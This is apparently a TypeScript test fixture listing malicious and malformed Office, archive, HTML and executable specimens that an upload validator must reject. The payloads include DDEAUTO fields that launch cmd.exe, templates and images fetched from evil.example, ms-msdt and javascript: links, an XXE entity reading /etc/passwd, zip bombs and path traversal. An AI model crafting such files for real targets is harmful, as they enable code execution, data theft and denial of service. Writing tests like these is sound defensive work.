// Office files, archives, programs and pages that must be refused.
import { docx, paper, xlsx } from './samples.ts';
import { bad, type Specimen } from './specimen.ts';
import { officeFile, officeParts, relation, zipOf, type Office, type ZipEntry } from './zips.ts';

const word = (given: Omit<Office, 'kind'>): Buffer => officeFile({ kind: 'docx', ...given });
const excel = (given: Omit<Office, 'kind'>): Buffer => officeFile({ kind: 'xlsx', ...given });
const part = (name: string, content: string | Buffer = 'x'): { parts: ZipEntry[] } => ({
  parts: [{ name, content }],
});
const field = (...texts: string[]): string =>
  texts.map((text) => `<w:p><w:r><w:instrText>${text}</w:instrText></w:r></w:p>`).join('');
const body = (content: string): Office => ({ kind: 'docx', ...part('word/document.xml', content) });

const locked = Buffer.concat([
  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  Buffer.alloc(1_016),
  Buffer.from('EncryptedPackage', 'utf16le'),
  Buffer.alloc(1_500),
]);

function overlapping(): Buffer {
  const parts = officeParts({ kind: 'docx' });
  const [kernel] = [{ name: 'word/media/a.png', content: Buffer.alloc(1_000_000) }];
  const copies = Array.from({ length: 50 }, (_, index): ZipEntry => ({
    name: `word/media/a${index}.png`,
    content: kernel.content,
    sameAs: kernel.name,
  }));
  return zipOf([...parts, kernel, ...copies]);
}

export const badOffice: readonly Specimen[] = [
  bad('mismatch', 'an Excel file that calls itself Word', 'a.docx', () => xlsx('Một')),
  bad('mismatch', 'a Word file that calls itself Excel', 'a.xlsx', () => docx('x')),
  bad('mismatch', 'any archive that calls itself Word', 'a.docx', () => zipOf([{ name: 'a.txt', content: 'x' }])),
  bad('mismatch', 'a PDF that calls itself Word', 'a.docx', () => paper('x')),
  bad('macro', 'a Word file with macros', 'a.docx', () => word(part('word/vbaProject.bin'))),
  bad('macro', 'a Word file that says it has macros', 'a.docx', () =>
    word({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' })),
  bad('macro', 'an Excel file with old macro sheets', 'a.xlsx', () => excel(part('xl/macrosheets/sheet1.xml', '<a/>'))),
  bad('macro', 'a Word file with a control', 'a.docx', () => word(part('word/activeX/activeX1.xml', '<a/>'))),
  bad('type', 'a Word file of the kind with macros', 'a.docm', () => docx('x')),
  bad('external', 'a Word file with a template elsewhere', 'a.docx', () =>
    word({ relations: relation('attachedTemplate', 'https://evil.example/a.dotm') })),
  bad('external', 'a Word file with a template on a share, in entities', 'a.docx', () =>
    word({ relations: relation('attachedTemplate', '\\\\evil\\a.dotm').replace('External', '&#69;xternal') })),
  bad('external', 'a Word file with a picture elsewhere', 'a.docx', () =>
    word({ relations: relation('image', 'https://evil.example/a.png') })),
  bad('external', 'a Word file with a link that is a script', 'a.docx', () =>
    word({ relations: relation('hyperlink', 'javascript:alert(1)') })),
  bad('external', 'a Word file with a link that opens a tool', 'a.docx', () =>
    word({ relations: relation('hyperlink', 'ms-msdt:/id') })),
  bad('external', 'a Word file with a field that starts a program', 'a.docx', () =>
    word({ body: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ') })),
  bad('external', 'the same in two parts', 'a.docx', () => word({ body: field(' DDEA', 'UTO cmd.exe ') })),
  bad('external', 'a Word file with a field that fetches', 'a.docx', () =>
    word({ body: '<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.example/a.png&quot;"><w:r/></w:fldSimple>' })),
  bad('external', 'an Excel file with a server behind a cell', 'a.xlsx', () =>
    excel(part('xl/tables/a.xml', '<a><ddeLink ddeService="cmd" ddeTopic="/c calc"/></a>'))),
  bad('external', 'an Excel file linked to another', 'a.xlsx', () =>
    excel(part('xl/externalLinks/externalLink1.xml', '<externalLink/>'))),
  bad('external', 'an Excel file with a connection', 'a.xlsx', () => excel(part('xl/connections.xml', '<a/>'))),
  bad('external', 'an Excel file that asks the web', 'a.xlsx', () =>
    excel({ body: '<c r="B1"><f>_xlfn.WEBSERVICE("https://evil.example")</f></c>' })),
  bad('embedded', 'a Word file with a file inside', 'a.docx', () => word(part('word/embeddings/oleObject1.bin'))),
  bad('embedded', 'a Word file with a page inside', 'a.docx', () => word(part('word/a.html', '<html/>'))),
  bad('embedded', 'a Word file with an archive inside', 'a.docx', () => word(part('word/a.zip', zipOf([])))),
  bad('embedded', 'a Word file with an archive that calls itself a picture', 'a.docx', () =>
    word(part('word/media/a.png', zipOf([{ name: 'a', content: 'x' }])))),
  bad('embedded', 'an Excel file with a program inside', 'a.xlsx', () => excel(part('xl/a.exe', 'MZ'))),
  bad('encrypted', 'a Word file with a password', 'a.docx', () => locked),
  bad('mismatch', 'an old Word file under the new name', 'a.docx', () =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_040)])),
  bad('encrypted', 'a Word file with a locked part', 'a.docx', () =>
    zipOf(officeParts({ kind: 'docx' }).map((entry) => ({ ...entry, encrypted: entry.name === 'word/document.xml' })))),
  bad('bomb', 'a Word file that unfolds without end', 'a.docx', () =>
    word(part('word/media/a.png', Buffer.alloc(90e6)))),
  bad('bomb', 'a Word file larger than it says', 'a.docx', () =>
    zipOf([...officeParts({ kind: 'docx' }), { name: 'word/media/a.png', content: Buffer.alloc(50), size: 2e9 }])),
  bad('unreadable', 'a Word file with more in a part than it says', 'a.docx', () =>
    zipOf([...officeParts({ kind: 'docx' }), { name: 'word/media/a.png', content: Buffer.alloc(50e6), size: 1_000 }])),
  bad('bomb', 'a Word file of too many parts', 'a.docx', () =>
    zipOf(Array.from({ length: 3_001 }, (_, index) => ({ name: `word/${index}.xml`, content: '<a/>' })))),
  bad('bomb', 'a Word file whose parts share their bytes', 'a.docx', overlapping),
  bad('unreadable', 'a Word file with entities without end', 'a.docx', () =>
    officeFile(body('<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document xmlns:w="w">&b;</w:document>'))),
  bad('unreadable', 'a Word file that reads another file', 'a.docx', () =>
    officeFile(body('<!DOCTYPE a SYSTEM "file:///etc/passwd"><w:document xmlns:w="w"/>'))),
  bad('unreadable', 'a Word file whose text is not closed', 'a.docx', () =>
    officeFile(body('<w:document xmlns:w="w"><w:body></w:document>'))),
  bad('unreadable', 'a Word file in another encoding', 'a.docx', () =>
    word(part('word/document.xml', Buffer.from('\ufeff<w:document xmlns:w="w"/>', 'utf16le')))),
  bad('unreadable', 'half a Word file', 'a.docx', async () => (await docx('x')).subarray(0, 3_000)),
  bad('unreadable', 'a Word file with a path out of it', 'a.docx', () => word(part('../../evil.xml', '<a/>'))),
  bad('hidden', 'a Word file with a word behind it', 'a.docx', () => officeFile({ kind: 'docx' }, { comment: 'x' })),
  bad('hidden', 'a Word file with bytes between its parts', 'a.docx', () =>
    officeFile({ kind: 'docx' }, { between: Buffer.alloc(500) })),
  bad('hidden', 'a Word file with two parts of one name', 'a.docx', () =>
    zipOf([...officeParts({ kind: 'docx' }), { name: 'WORD/document.xml', content: '<a/>' }])),
  bad('hidden', 'a Word file with a part of two names', 'a.docx', () =>
    zipOf([...officeParts({ kind: 'docx' }), { name: 'word/a.xml', localName: 'word/b.xml', content: '<a/>' }])),
  bad('mismatch', 'a Word file behind other bytes', 'a.docx', () =>
    officeFile({ kind: 'docx' }, { before: Buffer.from('#!/bin/sh\n') })),
  bad('type', 'an old Word file', 'a.doc', () => locked),
  bad('type', 'a page', 'a.html', () => Buffer.from('<!doctype html><script>alert(1)</script>')),
  bad('mismatch', 'a page that calls itself PDF', 'a.pdf', () => Buffer.from('<!doctype html><script>alert(1)</script>')),
  bad('type', 'a program', 'a.exe', () => Buffer.from('MZ')),
  bad('type', 'a program behind a paper’s name', 'Điều lệ.pdf.exe', () => Buffer.from('MZ')),
  bad('mismatch', 'a program that calls itself PDF', 'a.exe.pdf', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)])),
  bad('type', 'a file without an extension', 'README', () => Buffer.from('x')),
  bad('empty', 'an empty file', 'a.pdf', () => Buffer.alloc(0)),
  bad('unreadable', 'a file of three bytes', 'a.pdf', () => Buffer.from('%PD')),
]; // prettier-ignore
